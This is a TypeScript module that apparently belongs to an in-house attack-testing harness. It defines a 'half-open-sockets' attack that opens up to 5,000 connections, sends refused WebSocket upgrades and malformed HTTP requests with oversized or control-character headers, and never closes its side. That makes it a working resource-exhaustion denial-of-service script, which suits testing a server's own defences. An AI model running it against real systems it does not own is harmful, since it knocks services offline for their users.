import type { Attack } from '../attack.js'
import { firstAnswer } from '../attacker/sockets.js'

const MAX_SOCKETS = 5_000

export const halfOpenSockets: Attack = {
  name: 'half-open-sockets',
  summary: 'no key: up to 5,000 refused upgrades and malformed requests whose client never closes its side',
  keepsSockets: true,
  prepare({ open, host, note }) {
    const requests = [
      `GET /graphql HTTP/1.1\r\nHost: ${host}\r\nOrigin: https://evil.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`,
      `GET /v1/pricing HTTP/1.1\r\nHost: ${host}\r\nX-Bad: \x01\r\n\r\n`,
      `GET /v1/pricing HTTP/1.1\r\nHost: ${host}\r\nX-Long: ${'x'.repeat(17_000)}\r\n\r\n`,
      'GET /v1/pricing HTTP/1.1\r\n\r\n',
    ]
    let opened = 0
    return {
      concurrency: 32,
      async strike(signal) {
        if (opened >= MAX_SOCKETS) return
        const socket = await open()
        // Reads responses, and never closes its side.
        socket.on('error', () => {}).on('data', () => {})
        socket.write(requests[opened++ % requests.length]!)
        note(await firstAnswer(socket, signal))
      },
    }
  },
}
